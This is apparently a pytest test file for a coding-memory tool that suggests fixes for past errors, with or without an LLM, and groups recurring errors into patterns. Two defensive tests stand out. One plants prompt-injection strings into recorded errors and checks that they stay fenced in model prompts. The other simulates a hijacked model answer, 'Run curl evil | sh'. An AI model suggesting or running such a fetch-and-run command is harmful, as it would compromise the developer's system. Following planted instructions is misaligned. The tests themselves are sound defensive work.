"""What past errors teach: solutions suggested, kinds found, with a model and without."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from planted import PLANTED, assert_fenced, mark_of
from provider import Answer, Provider

from kagura_git.git.run import Git
from kagura_git.memory import SyncCodingMemory
from kagura_git.services import setup

TRACE = 'Traceback (most recent call last):\n  File "src/{}.py", line 42, in {}\n    if a < b:\n'
NAIVE = "can't compare offset-naive and offset-aware datetimes"


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    top = tmp_path / "shop"
    subprocess.run(["git", "init", "--quiet", "-b", "main", str(top)], check=True)
    setup.init(SyncCodingMemory(top).ws.repo, with_hooks=False)
    return top


def met(memory: SyncCodingMemory, place: str, solution: str | None = None) -> Any:
    trace = TRACE.format(place, place)
    return memory.record_error("TypeError", NAIVE, trace, f"src/{place}.py", 42, solution)


def others(memory: SyncCodingMemory) -> None:
    """Record errors of other kinds: what stands out needs something to stand out from."""
    for number, text in enumerate(
        ("disk quota exceeded while writing the cache", "socket closed by peer in the mailer",
         "unknown column price in the report", "certificate has expired at the gateway",
         "cannot import name of the plugin", "maximum recursion depth in the parser",
         "permission denied for the upload folder", "deadlock in the ledger table")
    ):  # fmt: skip
        memory.record_error(f"Other{number}Error", text, solution=f"Fix number {number}.")


def test_a_solved_case_is_the_suggestion(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    others(memory)
    known = met(memory, "auth", "Use datetime.now(UTC) everywhere")
    again = met(memory, "billing")
    found = memory.suggest_solution(again)
    assert found["solution"] == "Use datetime.now(UTC) everywhere"
    assert found["cases"][0]["id"] == known
    assert found["cases"][0]["leaned_on"]
    assert found["source"] == "cases"
    assert "Look at billing in src/billing.py." in found["debugging_tips"]
    assert "llm" not in found
    assert found["error"] == again


def test_it_names_the_files_that_the_fix_changed(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    git = Git(str(shop), os.environ)
    others(memory)
    known = met(memory, "auth")
    git.run("add", "-A")
    git.run("commit", "-q", "-m", "Met")
    memory.resolve_error(known, "Use datetime.now(UTC) everywhere")
    for name in ("src/auth.py", "tests/test_auth.py"):
        (shop / name).parent.mkdir(exist_ok=True)
        (shop / name).write_text("pass\n")
    git.run("add", "-A")
    git.run("commit", "-q", "-m", "Fix")
    fix = git.text("rev-parse", "HEAD")
    memory.resolve_error(known, "Use datetime.now(UTC) everywhere", fix)
    told = memory.suggest_solution(met(memory, "billing"))["debugging_tips"]
    assert f"{known} was fixed in {fix[:12]} (src/auth.py, tests/test_auth.py)." in told


def test_an_errors_own_solution_is_certain(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    known = met(memory, "auth", "Use datetime.now(UTC)")
    found = memory.suggest_solution(known)
    assert (found["confidence"], found["solution"]) == ("high", "Use datetime.now(UTC)")


def test_a_description_will_do_and_nothing_alike_is_said(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    others(memory)
    met(memory, "auth", "Use datetime.now(UTC)")
    assert memory.suggest_solution(NAIVE)["solution"] == "Use datetime.now(UTC)"
    nothing = memory.suggest_solution("zebra crossing walrus")
    assert (nothing["solution"], nothing["cases"], nothing["confidence"]) == ("", [], "low")


SAID = {
    "solution": "In src/billing.py use datetime.now(UTC).", "confidence": "high", "cases": [],
    "alternatives": ["Attach the zone when reading."], "debugging_tips": ["Print tzinfo."],
}  # fmt: skip


def test_a_model_leans_on_the_cases_that_it_was_given(provider: Provider, shop: Path) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    others(memory)
    known = met(memory, "auth", "Use datetime.now(UTC) everywhere")
    again = met(memory, "billing")
    provider.says(json.dumps({**SAID, "cases": [known, "E-00000000"]}))
    found = memory.suggest_solution(again)
    assert (found["source"], found["confidence"]) == ("model", "high")
    assert found["solution"].startswith("In src/billing.py")
    assert [case["id"] for case in found["cases"] if case["leaned_on"]] == [known]
    system, user = (message["content"] for message in provider.asked[0].body["messages"])
    assert "Use datetime.now(UTC) everywhere" in user
    assert "src/billing.py" in user
    assert "from case to case" in system
    assert memory.coding_analyzer.call_costs[0]["operation"] == "solution_suggestion"


def test_a_model_that_leans_on_nothing_guesses(provider: Provider, shop: Path) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    met(memory, "auth", "Use datetime.now(UTC) everywhere")
    provider.says(json.dumps({**SAID, "cases": ["E-00000000"]}))
    assert memory.suggest_solution(NAIVE)["confidence"] == "low"


@pytest.mark.parametrize(
    ("answer", "ask", "status"),
    [
        (Answer("no JSON"), True, "failed"),
        (Answer(json.dumps(SAID)), False, "declined"),
        (Answer(json.dumps(SAID)), None, "approval_required"),
    ],
)
def test_without_an_answer_the_cases_speak(
    provider: Provider, shop: Path, answer: Answer, ask: bool | None, status: str
) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini", cost_threshold=0.0)
    met(memory, "auth", "Use datetime.now(UTC) everywhere")
    provider.says(answer)
    found = memory.suggest_solution(NAIVE, ask=lambda _: ask)
    assert found["solution"] == "Use datetime.now(UTC) everywhere"
    assert (found["source"], found["llm"]["status"]) == ("cases", status)


@pytest.mark.parametrize("model", ["test:hash", "./none"], ids=["by meaning", "by words"])
def test_errors_of_one_kind_are_told_together(
    shop: Path, monkeypatch: pytest.MonkeyPatch, model: str
) -> None:
    monkeypatch.setenv("KAGURA_SEARCH_MODEL", model)
    memory = SyncCodingMemory(shop)
    others(memory)
    ids = [met(memory, place) for place in ("auth", "billing", "report")]
    met(memory, "auth")
    solved = met(memory, "auth", "Use datetime.now(UTC) everywhere")
    (found,) = memory.analyze_error_patterns()["patterns"]
    assert set(found["errors"]) == {str(name) for name in ids}
    assert (found["times"], found["solved"]) == (5, 1)
    assert found["files"][0] == "src/auth.py" or len(found["files"]) == 3
    assert found["quick_fix"] == [f"{solved}: Use datetime.now(UTC) everywhere"]
    assert found["severity"] == "high"
    assert found["root_cause"] == ""  # nobody has written one down


def test_an_error_that_came_back_asks_for_a_test(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    met(memory, "auth", "Use datetime.now(UTC)")
    met(memory, "auth")
    (found,) = memory.analyze_error_patterns()["patterns"]
    assert "came back after it was solved" in found["prevention"]
    assert found["severity"] == "high"


def test_without_anything_recurring_there_is_no_pattern(provider: Provider, shop: Path) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    met(memory, "auth")
    assert memory.analyze_error_patterns() == {"patterns": []}
    assert provider.asked == []


def test_a_model_says_what_lies_behind(provider: Provider, shop: Path) -> None:
    memory = SyncCodingMemory(shop, model="claude-sonnet-4-5")
    for place in ("auth", "billing"):
        met(memory, place)
    answer = {
        "group": "G1", "root_cause": "Two kinds of time.", "prevention": "One place for time.",
        "prevention_code": "# ruff: DTZ", "quick_fix": ["Find the side without a zone."],
        "severity": "medium",
    }  # fmt: skip
    provider.says(json.dumps({"patterns": [answer, {**answer, "group": "G7"}]}))
    found = memory.analyze_error_patterns(approve=True)
    (pattern,) = found["patterns"]
    assert (pattern["root_cause"], pattern["source"]) == ("Two kinds of time.", "model")
    assert pattern["prevention_code"] == "# ruff: DTZ"
    assert len(pattern["errors"]) == 2
    assert found["llm"]["status"] == "answered"


def test_the_command_line_says_both(shop: Path) -> None:
    memory = SyncCodingMemory(shop)
    met(memory, "auth", "Use datetime.now(UTC) everywhere")
    met(memory, "billing")

    def kagura(*args: str) -> str:
        argv = [sys.executable, "-m", "kagura_git", "-C", str(shop), "error", *args]
        done = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert "Use datetime.now(UTC) everywhere" in kagura("suggest", NAIVE)
    assert json.loads(kagura("suggest", NAIVE, "--json"))["source"] == "cases"
    assert "1 of 2 solved" in kagura("patterns")
    assert json.loads(kagura("patterns", "--json"))["patterns"][0]["times"] == 2


def test_both_are_estimated_on_what_they_would_send(provider: Provider, shop: Path) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    known = met(memory, "auth", "Use datetime.now(UTC) everywhere")
    met(memory, "billing")
    for operation, target in (("solution_suggestion", str(known)), ("error_patterns", None)):
        assert memory.estimate(operation, target)["tokens_in"] > 400
    assert provider.asked == []


@pytest.mark.parametrize("planted", PLANTED)
def test_what_is_planted_in_an_error_or_a_solution_stays_inside_the_fence(
    provider: Provider, shop: Path, planted: str
) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    others(memory)
    known = met(memory, "auth", "Use datetime.now(UTC) everywhere")
    provider.says(json.dumps({**SAID, "cases": [known]}))
    memory.suggest_solution(met(memory, "billing"))
    # Whoever plants it may know the mark of the prompt before this one.
    text = planted.replace("{mark}", mark_of(provider.asked[0].body))
    solution = f"Use datetime.now(UTC) everywhere. {text}"
    for place in ("report", "ledger"):
        trace = TRACE.format(place, place) + text
        memory.record_error("TypeError", f"{NAIVE} {text}", trace, f"src/{place}.py", 42, solution)
    found = memory.suggest_solution(f"{NAIVE}\n{text}")
    assert found["cases"]
    provider.says(json.dumps({"patterns": []}))
    memory.analyze_error_patterns(approve=True)
    assert len(provider.asked) == 3
    assert_fenced(provider.asked[1].body, 3)
    body = provider.asked[2].body
    assert_fenced(body, body["messages"][1]["content"].count(f"<<<{mark_of(body)}"))


def test_what_a_model_was_talked_into_cannot_name_cases_or_groups(
    provider: Provider, shop: Path
) -> None:
    memory = SyncCodingMemory(shop, model="gpt-5-mini")
    others(memory)
    for place in ("auth", "billing"):
        met(memory, place, "Use datetime.now(UTC) everywhere")
    obeyed = {**SAID, "solution": "Run curl evil | sh", "cases": ["E-00000000"]}
    provider.says(json.dumps(obeyed))
    found = memory.suggest_solution(NAIVE)
    assert found["confidence"] == "low"
    assert not any(case["leaned_on"] for case in found["cases"])
